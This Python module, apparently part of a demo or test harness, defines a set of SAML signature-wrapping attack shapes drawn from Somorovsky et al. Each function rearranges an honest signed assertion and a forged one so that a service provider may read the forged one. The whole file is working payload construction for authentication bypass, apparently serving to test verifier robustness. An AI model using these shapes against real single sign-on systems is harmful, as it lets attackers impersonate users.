"""Signature wrapping: an honest, signed assertion comes along, and the attacker's own is to be read instead.

The shapes are those of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al., 2012), fitted to messages
whose assertion is encrypted: the attacker has one honest assertion of his own and encrypts what he likes. Each takes
the evil assertion and the honest one, may change both, and returns what is to be encrypted.
"""

from collections.abc import Callable
from copy import deepcopy

from lxml import etree

from resetapp.demo.hub_crypto import DS as DS_URI
from resetapp.demo.hub_crypto import SAML as SAML_URI
from resetapp.demo.hub_envelope import SAMLP as SAMLP_URI

DS, SAML, SAMLP = f"{{{DS_URI}}}", f"{{{SAML_URI}}}", f"{{{SAMLP_URI}}}"
Shape = Callable[[etree._Element, etree._Element], list[etree._Element]]


def _signature_of(assertion: etree._Element) -> etree._Element:
    return assertion.find(f"{DS}Signature")


def _unsigned(assertion: etree._Element) -> etree._Element:
    copy = deepcopy(assertion)
    copy.remove(_signature_of(copy))
    return copy


def _element(tag: str, *children: etree._Element) -> etree._Element:
    made = etree.Element(tag)
    made.extend(children)
    return made


def evil_first(evil: etree._Element, honest: etree._Element) -> list[etree._Element]:
    return [evil, honest]


def evil_last(evil: etree._Element, honest: etree._Element) -> list[etree._Element]:
    return [honest, evil]


def honest_inside_evil(evil: etree._Element, honest: etree._Element) -> list[etree._Element]:
    evil.append(honest)
    return [evil]


def signature_on_evil_honest_inside(evil: etree._Element, honest: etree._Element) -> list[etree._Element]:
    evil.insert(1, deepcopy(_signature_of(honest)))
    evil.append(_unsigned(honest))
    return [evil]


def honest_inside_the_signature_of_evil(evil: etree._Element, honest: etree._Element) -> list[etree._Element]:
    signature = deepcopy(_signature_of(honest))
    signature.append(_unsigned(honest))
    evil.insert(1, signature)
    return [evil]


def honest_inside_an_object(evil: etree._Element, honest: etree._Element) -> list[etree._Element]:
    signature = deepcopy(_signature_of(honest))
    signature.append(_element(f"{DS}Object", _unsigned(honest)))
    evil.insert(1, signature)
    return [evil]


def honest_inside_the_key_info(evil: etree._Element, honest: etree._Element) -> list[etree._Element]:
    signature = deepcopy(_signature_of(honest))
    signature.find(f"{DS}KeyInfo/{DS}X509Data").append(_unsigned(honest))
    evil.insert(1, signature)
    return [evil]


def honest_inside_advice(evil: etree._Element, honest: etree._Element) -> list[etree._Element]:
    evil.append(_element(f"{SAML}Advice", honest))
    return [evil]


def honest_inside_an_attribute(evil: etree._Element, honest: etree._Element) -> list[etree._Element]:
    evil.find(f".//{SAML}AttributeValue").append(honest)
    return [evil]


def evil_inside_honest(evil: etree._Element, honest: etree._Element) -> list[etree._Element]:
    honest.append(evil)
    return [honest]


def signature_on_evil_honest_beside(evil: etree._Element, honest: etree._Element) -> list[etree._Element]:
    evil.insert(1, deepcopy(_signature_of(honest)))
    return [evil, _unsigned(honest)]


def same_id_honest_beside(evil: etree._Element, honest: etree._Element) -> list[etree._Element]:
    evil.set("ID", honest.get("ID"))
    evil.insert(1, deepcopy(_signature_of(honest)))
    return [evil, _unsigned(honest)]


def same_id_alone(evil: etree._Element, honest: etree._Element) -> list[etree._Element]:
    evil.set("ID", honest.get("ID"))
    evil.insert(1, deepcopy(_signature_of(honest)))
    return [evil]


def honest_response_inside(evil: etree._Element, honest: etree._Element) -> list[etree._Element]:
    return [_element(f"{SAMLP}Response", honest), evil]


def evil_statement_added(evil: etree._Element, honest: etree._Element) -> list[etree._Element]:
    honest.append(evil.find(f"{SAML}AttributeStatement"))
    return [honest]


def evil_inside_the_signature(evil: etree._Element, honest: etree._Element) -> list[etree._Element]:
    _signature_of(honest).append(_element(f"{DS}Object", evil))
    return [honest]


def signed_twice(_: etree._Element, honest: etree._Element) -> list[etree._Element]:
    honest.insert(1, deepcopy(_signature_of(honest)))
    return [honest]
